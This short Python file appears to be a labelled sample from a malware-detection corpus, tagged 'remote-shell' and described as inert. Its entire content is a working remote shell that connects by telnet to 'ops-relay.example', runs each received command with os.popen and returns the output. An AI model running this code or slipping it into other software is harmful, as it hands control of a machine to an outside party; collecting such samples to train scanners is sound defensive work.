# pkgguard corpus 487 (remote-shell), modelled on [taxonomy]; inert, never run.
import os
import telnetlib

tn = telnetlib.Telnet("ops-relay.example", 2323, timeout=20)
while True:
    order = tn.read_until(b"\n").decode().strip()
    if order == "exit":
        break
    tn.write(os.popen(order).read().encode() + b"\n")
